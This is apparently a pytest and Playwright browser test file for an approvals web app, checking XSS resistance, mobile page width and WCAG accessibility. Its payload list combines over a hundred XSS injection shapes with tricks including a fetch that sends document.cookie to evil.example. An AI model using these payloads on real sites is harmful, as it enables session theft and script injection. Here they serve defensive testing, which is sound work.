from __future__ import annotations

import itertools
from typing import TYPE_CHECKING, Any

import pytest

from tests.browser.support import Inbox, asked, chained
from tests.browser.test_deciding import APPROVAL, listening, opened

if TYPE_CHECKING:
    from playwright.async_api import Browser

_TRICKS = (
    "alert(1)",
    "fetch('https://evil.example/'+document.cookie)",
    "location='https://evil.example/'",
    "new Image().src='https://evil.example/i.png'",
)
_SHAPES = (
    "<script>{}</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>{}",
    '<img src=x onerror="{}">',
    '<svg onload="{}"></svg>',
    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">click</a>',
    '"><script>{}</script>',
    '\'><img src=x onerror="{}">',
    '" autofocus onfocus="{}',
    "' autofocus onfocus='{}",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    "<style>@import 'https://evil.example/x.css';</style>{}",
    "<link rel=stylesheet href=https://evil.example/x.css>{}",
    '<meta http-equiv=refresh content="0;url=https://evil.example">{}',
    "<base href=https://evil.example/>{}",
    "<form action=https://evil.example><button autofocus>{}</button></form>",
    '<object data="data:text/html,<script>{}</script>"></object>',
    '<embed src="javascript:{}">',
    '<details open ontoggle="{}">',
    '<math><mtext><table><mglyph><style><img src=x onerror="{}">',
    "{{{{ ''.__class__ }}}}{{% print(1) %}}{}",
    '<!--><img src=x onerror="{}">-->',
)
PAYLOADS = [shape.format(trick) for shape, trick in itertools.product(_SHAPES, _TRICKS)]


async def test_no_payload_runs_or_calls_home(browser: Browser, inbox: Inbox) -> None:
    """More than a hundred payloads, in summaries, values, reasons and remarks: no dialog, no foreign request."""
    assert len(PAYLOADS) >= 100
    page = await opened(browser, inbox, "/", who="ann")
    dialogs: list[str] = []
    foreign: list[str] = []
    broken: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page.on("request", lambda request: None if request.url.startswith(inbox.url) else foreign.append(request.url))
    page.on("pageerror", lambda error: broken.append(str(error)))
    for number, batch in enumerate(_batched()):
        run_id = f"r{number}"
        summary, reason = " ".join(batch)[:900], " ".join(batch)
        await inbox.orchestrator.start(asked(list(batch), summary, reason), run_id=run_id, requested_by=batch[0])
        for text in batch[:3]:
            (await inbox.orchestrator.comment(run_id, text=text, by="bob")).unwrap()
        await page.goto(f"{inbox.url}/runs/{run_id}/approvals/anything?told={batch[0]}")
        await listening(page)
        await page.click("#edit > summary")
        assert batch[0] in await page.inner_text("#content")
        (await inbox.orchestrator.claim(run_id, by="bob")).unwrap()
        await page.get_by_text("taken on by bob").wait_for()
    await page.goto(f"{inbox.url}/")
    await page.goto(f"{inbox.url}/runs/r0")
    assert (dialogs, foreign, broken) == ([], [], [])


def _batched() -> list[tuple[str, ...]]:
    return [tuple(PAYLOADS[start : start + 13]) for start in range(0, len(PAYLOADS), 13)]


async def _all_kinds(inbox: Inbox) -> list[str]:
    """Make some of everything, and give the pages that show it."""
    await inbox.parked("r1")
    await inbox.parked("r2")
    await inbox.orchestrator.start(chained(5), run_id="c1", requested_by="rita")
    (await inbox.orchestrator.approve("c1", by="ann")).unwrap()
    (await inbox.orchestrator.comment("r1", text="Look at the depot.", by="rita")).unwrap()
    (await inbox.orchestrator.inquire("r1", text="Which?", by="bob")).unwrap()
    (await inbox.orchestrator.reject("r2", reason="We have paid.", by="ann")).unwrap()
    return [
        "/",
        "/decided",
        APPROVAL,
        "/runs/r2",
        "/runs/r2/approvals/manager",
        "/runs/c1/approvals/budget.team%20lead",
    ]


@pytest.mark.parametrize("width", [360, 1280])
async def test_no_page_is_wider_than_its_screen(browser: Browser, inbox: Inbox, width: int) -> None:
    """Down to the smallest telephones nothing has to be scrolled sideways."""
    page = await opened(browser, inbox, "/", who="ann")
    await page.set_viewport_size({"width": width, "height": 700})
    for path in await _all_kinds(inbox):
        await page.goto(inbox.url + path)
        await page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true })")
        wide = await page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert wide <= 0, path


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_pages_can_be_used_by_everybody(browser: Browser, inbox: Inbox, axe: str, scheme: Any) -> None:
    """The checker finds nothing against WCAG A and AA, contrasts in light and dark included."""
    page = await opened(browser, inbox, "/", who="ann")
    await page.emulate_media(color_scheme=scheme)
    found: list[str] = []
    for path in [*await _all_kinds(inbox), await inbox.link("r1"), await inbox.link("c1", "cleo", "budget.team lead")]:
        await page.goto(path if path.startswith("http") else inbox.url + path)
        await page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true })")
        await page.evaluate(axe)
        tags = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "best-practice"]
        report = await page.evaluate("tags => axe.run({runOnly: tags})", tags)
        found += [
            f"{path}: {each['id']}: {each['nodes'][0]['html'][:160]} {each['nodes'][0]['failureSummary'][:200]}"
            for each in report["violations"]
        ]
    assert not found, "\n".join(found)
